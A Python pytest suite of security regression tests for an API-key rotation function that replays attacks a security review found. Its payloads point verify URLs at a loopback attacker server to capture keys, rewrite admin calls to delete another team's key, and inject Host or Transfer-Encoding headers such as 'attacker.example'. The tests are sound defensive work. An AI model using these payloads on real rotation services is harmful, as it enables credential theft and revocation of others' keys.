"""Each attack of whoever can write a rotated API key secret (PutSecretValue), as a security
review reproduced them against the older format, replayed against the real test issuer
(tests/support/issuer.py) and an attacker's HTTP server on loopback that records every
request. The writer must not steer the admin credential nor receive a key: nothing may
reach the attacker's server, no key may appear in any log line, and no key may be issued
or revoked that should not be.

The writer's two routes are tried for each attack: the older format (the provider's
description in the rotated secret: refused unless the admin secret has the description,
then ignored), and whatever the current format still lets the writer set. Where the
trusted secrets themselves are checked (hosts with ports, forbidden headers, ids that hold
the key), the same attack is also tried from there.
"""

from __future__ import annotations

import contextlib
import json
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
import urllib3

from rotation_core import ConfigurationError
from tests.api_key_target import ApiKeyTarget
from tests.conftest import RotationCase
from tests.engines import unique
from tests.support import rotations
from tests.support.issuer import Issuer

HOST = "127.0.0.1"


# -- the attacker's server ------------------------------------------------------------------
@dataclass(frozen=True)
class Request:
    method: str
    path: str
    headers: dict[str, str]
    body: bytes


class Attacker:
    """An HTTP server on loopback that records every request it gets (the attacker's).

    With a backend it is a shared front end (a load balancer, a CDN) instead: a request for
    its own host name is passed on to the backend (the provider); any other Host header
    names another virtual host on the same address, the attacker's, and is recorded."""

    def __init__(self, backend: str | None = None) -> None:
        self.backend = backend
        self.captured: list[Request] = []
        self.forwarded = 0
        self._lock = threading.Lock()
        self._http = urllib3.PoolManager()
        self._server = ThreadingHTTPServer((HOST, 0), _handler_for(self))
        self._server.daemon_threads = True
        self.netloc = f"{HOST}:{self._server.server_address[1]}"
        self.url = f"http://{self.netloc}"
        self._thread = threading.Thread(target=self._server.serve_forever, kwargs={"poll_interval": 0.1}, daemon=True)

    def start(self) -> Attacker:
        self._thread.start()
        return self

    def stop(self) -> None:
        self._server.shutdown()
        self._server.server_close()
        self._thread.join(timeout=5)

    def answer(self, request: Request) -> tuple[int, bytes]:
        if self.backend is not None and request.headers.get("Host") == self.netloc:
            with self._lock:
                self.forwarded += 1
            headers = {k: v for k, v in request.headers.items() if k.lower() not in ("host", "content-length")}
            reply = self._http.request(
                request.method, self.backend + request.path, headers=headers, body=request.body or None, retries=False
            )
            return reply.status, reply.data
        with self._lock:
            self.captured.append(request)
        # What an attacker would answer to pass for the provider.
        return 200, json.dumps({"ok": True, "data": {"id": "k_attacker", "secret": "stolen", "name": "x"}}).encode()


def _handler_for(server: Attacker) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"
        timeout = 15

        def _serve(self) -> None:
            length = int(self.headers.get("Content-Length") or 0)
            body = self.rfile.read(length) if length else b""
            status, data = server.answer(Request(self.command, self.path, dict(self.headers.items()), body))
            with contextlib.suppress(OSError):
                self.send_response(status)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

        do_GET = do_POST = do_DELETE = do_PUT = do_PATCH = _serve  # noqa: N815 - http.server's names

        def log_message(self, format: str, *args: Any) -> None:  # noqa: A002 - the base class's name
            """Quiet."""

    return Handler


# -- fixtures and helpers -----------------------------------------------------------------------
@pytest.fixture
def api(api_key_target: ApiKeyTarget, monkeypatch: pytest.MonkeyPatch, moto_endpoint: str) -> Iterator[ApiKeyTarget]:
    for key, value in api_key_target.env().items():
        monkeypatch.setenv(key, value)
    api_key_target.issuer.clear_faults()
    yield api_key_target
    api_key_target.issuer.clear_faults()


@pytest.fixture
def issuer(api: ApiKeyTarget) -> Issuer:
    return api.issuer


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    server = Attacker().start()
    yield server
    server.stop()


def new_case(api: ApiKeyTarget, sm: Any, doc: dict[str, Any]) -> RotationCase:
    api.new_secret = lambda client, _: (api.store(client, doc), doc)  # type: ignore[method-assign]
    try:
        return RotationCase(api, sm, str(doc["mode"]))
    finally:
        del api.new_secret


def older_format(api: ApiKeyTarget, admin_arn: str | None = None, **provider: Any) -> dict[str, Any]:
    """An issued key's secret in the older format: the provider described in it, changed."""
    doc = api.issued_secret()
    doc["provider"] = {**api.legacy_provider(), **provider}
    if admin_arn is not None:
        doc["provider"]["admin_secret_arn"] = admin_arn
    return doc


def put_current(sm: Any, case: RotationCase, doc: dict[str, Any]) -> None:
    """The writer's PutSecretValue: a new AWSCURRENT version of the rotated secret."""
    sm.put_secret_value(SecretId=case.arn, SecretString=json.dumps(doc), VersionStages=["AWSCURRENT"])


def refused_at_create(case: RotationCase, match: str, *, calls_provider: bool = False) -> tuple[str, str]:
    """createSecret refuses, and stores nothing; unless calls_provider, no call reached the
    provider. (The error message, the rotation's token.)"""
    issuer: Issuer = case.target.issuer  # type: ignore[attr-defined]
    calls = sum(issuer.calls.values())
    token = rotations.start_rotation(case.sm, case.arn)
    with pytest.raises(ConfigurationError, match=match) as caught:
        case.handler(rotations.event(case.arn, token, "createSecret"), None)
    with pytest.raises(case.sm.exceptions.ResourceNotFoundException):
        rotations.value(case.sm, case.arn, "AWSPENDING", token)
    if not calls_provider:
        assert sum(issuer.calls.values()) == calls, "no call reached the provider"
    return str(caught.value), token


def assert_no_leak(
    issuer: Issuer, capsys: pytest.CaptureFixture[str], caplog: pytest.LogCaptureFixture, *more: str
) -> None:
    """No key the issuer ever issued, no admin token, nothing in `more`, in any log line."""
    logs = capsys.readouterr().out + caplog.text
    assert logs.strip() or caplog.records, "the function's logs were captured"
    for value in [key.secret for key in issuer.all_keys()] + [issuer.admin_token, *more]:
        assert value not in logs, "a key or the admin token is in the logs"


# -- 1. the verify URL: a new, live key delivered to the writer's server ------------------------
@pytest.mark.parametrize(
    "route",
    [
        "issued, older format, admin secret with the description",
        "issued, older format, admin secret without the description",
        "generated, verify described in the rotated secret",
        "generated, verify described in the rotated secret beside a verify secret",
        "generated, verify secret listing the host without the port",
        "issued, admin description whose verify is on a port hosts do not list",
    ],
)
def test_1_the_verify_url_never_receives_a_key(
    api: ApiKeyTarget,
    sm: Any,
    issuer: Issuer,
    *,
    attacker: Attacker,
    route: str,
    capsys: pytest.CaptureFixture[str],
    caplog: pytest.LogCaptureFixture,
) -> None:
    stolen = {"url": f"{attacker.url}/v1/me", "auth": {"type": "header", "name": "X-Api-Key"}}
    if route.startswith("issued, older format"):
        admin = api.shared_admin_secret() if "with the" in route else api.admin_secret(provider=None)
        case = new_case(api, sm, older_format(api, admin, verify=stolen))
        if "with the" in route:
            case.rotate()
            assert api.works(case.current()), "verified at the admin secret's verify URL instead"
        else:
            refused_at_create(case, r"describes the provider \(fields .*'provider\.verify'")
    elif route.startswith("generated, verify described"):
        realm = unique("svc")
        doc = api.generated_secret(realm) | {"verify": stolen}
        if "beside" not in route:
            del doc["verify_secret_arn"]
        case = new_case(api, sm, doc)
        api.issuer.add_realm(realm, lambda: api.held_keys(case.arn))
        if "beside" in route:
            case.rotate()
            assert api.works(case.current())
        else:
            refused_at_create(case, "field 'verify' of the current secret describes where the pending key is sent")
    elif route.startswith("generated, verify secret"):
        # The older allow-list named hosts only: every port of 127.0.0.1 was allowed.
        doc = api.generated_secret(unique("svc"))
        doc["verify_secret_arn"] = api.verify_secret(unique("svc"), hosts=[HOST], verify=stolen)
        refused_at_create(new_case(api, sm, doc), "names a host and port that field 'hosts' of the verify secret")
    else:
        admin = api.admin_secret(provider={**api.description(), "verify": stolen})
        case = new_case(api, sm, api.issued_secret(admin_arn=admin))
        refused_at_create(case, r"field 'provider\.verify\.url' of the admin secret names a host and port")
    assert attacker.captured == [], "a request reached the attacker's server"
    assert_no_leak(issuer, capsys, caplog)


# -- 2. method, path and body of the admin calls: DELETE of another key -------------------------
@pytest.mark.parametrize(
    "route",
    [
        "older format, admin secret with the description",
        "older format, admin secret without the description",
        "current format with endpoints beside the reference",
    ],
)
def test_2_the_admin_calls_cannot_be_rewritten(
    api: ApiKeyTarget,
    sm: Any,
    issuer: Issuer,
    *,
    route: str,
    capsys: pytest.CaptureFixture[str],
    caplog: pytest.LogCaptureFixture,
) -> None:
    victim = issuer.issue("another-team-key")
    delete = {"method": "DELETE", "url": f"{issuer.url}/admin/keys/{victim.id}", "key_path": "id", "id_path": "ok"}
    if route.startswith("older format"):
        admin = api.shared_admin_secret() if "with the" in route else api.admin_secret(provider=None)
        doc = older_format(api, admin, issue=delete, list=delete | {"items_path": "", "label_path": "x"})
    else:
        doc = api.issued_secret() | {"issue": delete, "revoke": {"method": "DELETE", "url": delete["url"]}}
    requests_before = len(issuer.requests)
    case = new_case(api, sm, doc)
    if "without the description" in route:
        refused_at_create(case, "describes the provider")
        assert len(issuer.requests) == requests_before, "no call reached the provider"
    else:
        case.rotate()
        case.rotate()
        assert not api.works(case.initial), "the admin secret's own endpoints ran"
    deletes = [path for method, path, _ in issuer.requests if method == "DELETE" and victim.id in path]
    assert deletes == [], "the admin token was used to delete another key"
    assert victim.alive
    assert_no_leak(issuer, capsys, caplog)


# -- 3. label_prefix: claiming another secret's keys, which finishSecret revokes ---------------
@pytest.mark.parametrize(
    "route",
    [
        "older format, admin secret with the description",
        "older format, admin secret without the description",
        "admin secret whose label_prefix is the other secret's prefix",
    ],
)
def test_3_a_label_prefix_cannot_claim_another_secrets_keys(
    api: ApiKeyTarget,
    sm: Any,
    issuer: Issuer,
    *,
    route: str,
    capsys: pytest.CaptureFixture[str],
    caplog: pytest.LogCaptureFixture,
) -> None:
    victim = new_case(api, sm, api.issued_secret())
    victim.rotate()
    victim_prefix = api.label_prefix(victim.arn)
    victim_keys = {key.id for key in issuer.live(victim_prefix)}
    assert len(victim_keys) == 2
    if route.startswith("older format"):
        admin = api.shared_admin_secret() if "with the" in route else api.admin_secret(provider=None)
        case = new_case(api, sm, older_format(api, admin, label_prefix=victim_prefix))
        if "with the" in route:
            case.rotate()
            case.rotate()
            assert len(issuer.live(api.label_prefix(case.arn))) == 2, "labelled under its own prefix"
        else:
            refused_at_create(case, r"'provider\.label_prefix'")
    else:
        admin = api.admin_secret(provider={**api.description(), "label_prefix": victim_prefix})
        case = new_case(api, sm, api.issued_secret(admin_arn=admin))
        refused_at_create(case, r"field 'provider\.label_prefix' of the admin secret must be 1 to 32 letters")
    assert {key.id for key in issuer.live(victim_prefix)} == victim_keys, "the other secret's keys are alive"
    assert api.works(victim.current())
    assert_no_leak(issuer, capsys, caplog)


# -- 4. previous_key_id (or key_id) written by hand: revoking any key ----------------------------
@pytest.mark.parametrize("field", ["previous_key_id", "key_id"])
def test_4_written_ids_never_revoke_another_key(
    api: ApiKeyTarget,
    sm: Any,
    issuer: Issuer,
    *,
    field: str,
    capsys: pytest.CaptureFixture[str],
    caplog: pytest.LogCaptureFixture,
) -> None:
    victim = new_case(api, sm, api.issued_secret())
    victim_key = victim.current()["key_id"]
    case = new_case(api, sm, api.issued_secret())
    put_current(sm, case, case.current() | {field: victim_key})
    for _ in range(3):
        case.rotate()
    assert issuer.key(victim_key).alive, "the other secret's key is alive"  # type: ignore[union-attr]
    assert api.works(victim.current())
    own = {key.id for key in issuer.live(api.label_prefix(case.arn))}
    assert own == {case.current()["key_id"], case.current()["previous_key_id"]}, "its own keys are cleaned up"
    assert_no_leak(issuer, capsys, caplog)


# -- 5. static headers: the admin token sent under a chosen virtual host --------------------------
@pytest.fixture
def frontend(api: ApiKeyTarget) -> Iterator[Attacker]:
    """The provider behind a shared front end; other virtual hosts on it are the attacker's."""
    server = Attacker(backend=api.issuer.url).start()
    yield server
    server.stop()


@pytest.mark.parametrize(
    ("route", "header"),
    [
        ("older format, admin secret with the description", "Host"),
        ("admin secret's static headers", "Host"),
        ("admin secret's static headers", "host"),
        ("admin secret's static headers", "Content-Length"),
        ("admin secret's static headers", "Transfer-Encoding"),
        ("admin secret's static headers", "Connection"),
        ("admin secret's auth header name", "Host"),
    ],
)
def test_5_no_static_header_can_choose_the_virtual_host(
    api: ApiKeyTarget,
    sm: Any,
    issuer: Issuer,
    *,
    frontend: Attacker,
    route: str,
    header: str,
    capsys: pytest.CaptureFixture[str],
    caplog: pytest.LogCaptureFixture,
) -> None:
    values = {"host": "attacker.example", "content-length": "0", "transfer-encoding": "chunked", "connection": "close"}
    evil = {header: values[header.lower()]}
    description = api.description(url=frontend.url)
    admin_doc = api.admin_doc(hosts=[frontend.netloc], provider=description)
    if route.startswith("older format"):
        admin = str(sm.create_secret(Name=unique("api-admin"), SecretString=json.dumps(admin_doc))["ARN"])
        legacy = json.loads(json.dumps(description))
        for endpoint in ("issue", "list", "revoke", "verify"):
            legacy[endpoint]["headers"] = evil
        case = new_case(api, sm, older_format(api, admin, **legacy))
        case.rotate()
        case.rotate()
        assert frontend.forwarded > 0 and not api.works(case.initial), "the provider got the calls"
    else:
        if "auth header" in route:
            description["admin_auth"] = {"type": "header", "name": header}
            field = "provider.admin_auth.name"
        else:
            description["issue"]["headers"] = evil
            field = f"provider.issue.headers.{header}"
        admin = str(sm.create_secret(Name=unique("api-admin"), SecretString=json.dumps(admin_doc))["ARN"])
        case = new_case(api, sm, api.issued_secret(admin_arn=admin))
        message, _ = refused_at_create(case, f"field '{field}' of the admin secret names a header the function never")
        assert header in message
        assert frontend.forwarded == 0, "nothing was sent"
    assert frontend.captured == [], "a request reached the attacker's virtual host"
    assert_no_leak(issuer, capsys, caplog)


# -- 6. an id that is (or holds) the key: the key in the logs -----------------------------------
@pytest.mark.parametrize(
    "route",
    [
        "older format, admin secret with the description",
        "admin secret's id_path",
    ],
)
def test_6_an_id_that_holds_the_key_is_refused_and_never_logged(
    api: ApiKeyTarget,
    sm: Any,
    issuer: Issuer,
    *,
    route: str,
    capsys: pytest.CaptureFixture[str],
    caplog: pytest.LogCaptureFixture,
) -> None:
    # The test issuer answers "token": "<id>.<secret>" beside "id" and "secret".
    if route.startswith("older format"):
        legacy = api.description()
        legacy["issue"]["id_path"] = "data.token"
        case = new_case(api, sm, older_format(api, **legacy))
        case.rotate()
        key_id = case.current()["key_id"]
        assert issuer.key(key_id) is not None, "the id came from the admin secret's id_path"
    else:
        description = api.description()
        description["issue"]["id_path"] = "data.token"
        admin = api.admin_secret(provider=description)
        case = new_case(api, sm, api.issued_secret(admin_arn=admin))
        pattern = r"has an id that contains the key \(refused: ids are logged\)"
        message, token = refused_at_create(case, pattern, calls_provider=True)
        assert "'provider.issue.id_path' of the admin secret" in message
        assert all(key.secret not in message for key in issuer.all_keys())
        assert case.current() == case.initial
        # Issued before its answer could be judged: held by no one, and labelled for this
        # rotation, so that the next rotation, once the admin secret is fixed, revokes it.
        prefix = api.label_prefix(case.arn)
        assert len(issuer.live(prefix + token)) == 1
        sm.put_secret_value(SecretId=admin, SecretString=json.dumps(api.admin_doc()))
        sm.update_secret_version_stage(SecretId=case.arn, VersionStage="AWSPENDING", RemoveFromVersionId=token)
        case.rotate()
        assert issuer.live(prefix + token) == []
    assert_no_leak(issuer, capsys, caplog)


# -- 7. the trusted secret itself: another secret the function rotates ---------------------------
def test_7_another_rotated_secret_cannot_serve_as_a_trusted_secret(
    api: ApiKeyTarget, sm: Any, attacker: Attacker, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The function can read every secret it rotates. A writer of two of them makes one
    (theirs) a verify secret that sends keys to their server, and names it from the other
    (the victim's) as its verify secret. With TRUSTED_SECRET_ARNS (the stack sets it from
    the admin and verify secrets it lets the function read), only those may be named."""
    legit = api.verify_secret(unique("svc"))
    theirs = new_case(api, sm, api.generated_secret(unique("svc")))
    put_current(sm, theirs, {"hosts": [attacker.netloc], "verify": {"url": f"{attacker.url}/v1/me"}})
    victim_doc = api.generated_secret(unique("svc")) | {"verify_secret_arn": theirs.arn}
    victim = new_case(api, sm, victim_doc)
    monkeypatch.setenv("TRUSTED_SECRET_ARNS", legit)
    token = rotations.start_rotation(sm, victim.arn)
    with pytest.raises(ConfigurationError, match="TRUSTED_SECRET_ARNS"):
        rotations.run_steps(victim.handler, victim.arn, token)
    assert attacker.captured == [], "a key reached the attacker's server"
    # Control: without the setting, IAM alone decides, and the function may read that secret.
    monkeypatch.delenv("TRUSTED_SECRET_ARNS")
    victim = new_case(api, sm, victim_doc)
    token = rotations.start_rotation(sm, victim.arn)
    for step in rotations.STEPS[:3]:
        with contextlib.suppress(Exception):
            victim.handler(rotations.event(victim.arn, token, step), None)
    assert attacker.captured, "control: the attack works where nothing binds the trusted secrets"
